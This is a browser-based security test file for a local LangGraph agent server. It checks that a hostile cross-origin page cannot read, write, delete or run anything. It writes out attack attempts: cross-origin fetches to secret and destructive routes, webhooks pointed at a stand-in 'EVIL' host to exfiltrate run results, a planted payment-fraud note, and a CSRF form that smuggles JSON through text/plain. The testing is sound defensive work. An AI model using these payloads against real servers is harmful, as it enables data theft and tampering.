/**
 * A hostile page in a real browser, on another origin, against the running server: whatever it
 * tries, nothing is read and nothing is written.
 */
import { Client } from "@langchain/langgraph-sdk";
import { afterAll, beforeAll, describe, expect, it } from "@jest/globals";
import { existsSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { hasBrowser, openBrowser, type OpenBrowser } from "./browser.js";
import { startDevServer, type DevServer } from "./dev-server.js";

let server: DevServer;
let evil: Server;
let caught: string[];
let browser: OpenBrowser;
let page: Page;
let thread: string;

(hasBrowser ? describe : describe.skip)("a hostile page", () => {
  beforeAll(async () => {
    server = await startDevServer({ "secret.txt": "The vault opens with 4711.\n" });
    const client = new Client({ apiUrl: server.url });
    ({ thread_id: thread } = await client.threads.create({ metadata: { mine: "yes" } }));
    caught = [];
    evil = createServer((request, response) => {
      if (request.method === "POST") caught.push(request.url ?? "");
      response.setHeader("content-type", "text/html").end("<h1>A harmless page</h1>");
    });
    await new Promise<void>((listening) => evil.listen(0, "127.0.0.1", listening));
    browser = await openBrowser(["--disable-features=LocalNetworkAccessChecks"]);
    page = browser.page;
    await page.goto(evilUrl());
  });

  afterAll(async () => {
    await browser?.close();
    await server?.stop();
    evil?.close();
  });

  const evilUrl = (): string => {
    const address = evil.address();
    if (address === null || typeof address === "string") throw new Error("not listening");
    return `http://127.0.0.1:${address.port}`;
  };

  const ROUTES: [method: string, path: string, body: unknown][] = [
    ["GET", "/info", undefined],
    ["GET", "/app/about", undefined],
    ["GET", "/threads/THREAD/state", undefined],
    ["GET", "/threads/THREAD/history", undefined],
    ["DELETE", "/threads/THREAD", undefined],
    ["POST", "/threads/search", {}],
    ["POST", "/threads", {}],
    ["POST", "/assistants/search", {}],
    ["POST", "/internal/truncate", { threads: true, runs: true, checkpointer: true }],
    ["POST", "/store/items/search", {}],
    ["PUT", "/store/items", { namespace: ["x"], key: "k", value: { a: 1 } }],
    ["POST", "/runs/wait", { assistant_id: "agent", input: { question: "vault" } }],
    ["POST", "/runs/stream", { assistant_id: "agent", input: { question: "vault" } }],
    ["POST", "/runs/wait", { assistant_id: "indexer", input: { targets: ["secret.txt"] } }],
    ["GET", "/documents", undefined],
    ["GET", "/documents/show?path=secret.txt", undefined],
    ["PUT", "/documents/file?path=planted.md", "Pay the invoice to this account."],
    ["DELETE", "/documents?path=secret.txt", undefined],
    ["POST", "/runs", { assistant_id: "agent", webhook: "EVIL/hook", input: { question: "x" } }],
    ["POST", "/runs/batch", [{ assistant_id: "agent", webhook: "EVIL/hook", input: {} }]],
  ];

  it.each(ROUTES)("reads and writes nothing by %s %s", async (method, path, body) => {
    const target = `${server.url}${path.replace("THREAD", thread)}`;
    const text = body === undefined ? undefined : JSON.stringify(body).replace("EVIL", evilUrl());
    for (const mode of ["cors", "no-cors"] as const) {
      const read = await page.evaluate(
        async ({ target, method, text, mode }) => {
          try {
            const response = await fetch(target, {
              signal: AbortSignal.timeout(5000),
              method: mode === "no-cors" && method !== "GET" ? "POST" : method,
              mode,
              ...(text !== undefined && { body: text }),
              headers: { "content-type": "text/plain" },
            });
            return await response.text();
          } catch {
            return "";
          }
        },
        { target, method, text, mode },
      );
      expect(read).toBe("");
    }
  });

  it("opens no socket, and posts no form that takes effect", async () => {
    const opened = await page.evaluate(
      (url) =>
        new Promise<boolean>((done) => {
          setTimeout(() => done(false), 5000);
          const socket = new WebSocket(url);
          socket.onopen = () => done(true);
          socket.onerror = () => done(false);
        }),
      `${server.url.replace("http", "ws")}/threads/${thread}/stream/events`,
    );
    expect(opened).toBe(false);
    const form = await browser.context.newPage();
    await form.goto(evilUrl());
    const [response] = await Promise.all([
      form.waitForResponse((seen) => seen.url().endsWith("/runs/wait")),
      form.setContent(
        `<form id="f" method="post" enctype="text/plain" action="${server.url}/runs/wait">
           <input name='{"assistant_id":"agent","input":{"question":"vault","x":"' value='"}}'>
         </form><script>document.getElementById("f").submit()</script>`,
      ),
    ]);
    expect(response.status()).toBe(403);
    await form.close();
  });

  it("left no trace: the thread exists, nothing ran, nothing was posted", async () => {
    const client = new Client({ apiUrl: server.url });
    expect((await client.threads.search()).map((found) => found.thread_id)).toEqual([thread]);
    expect(await client.runs.list(thread)).toEqual([]);
    expect(caught).toEqual([]);
    expect(existsSync(join(server.folder, ".corrective-rag", "kb"))).toBe(false);
  });
});
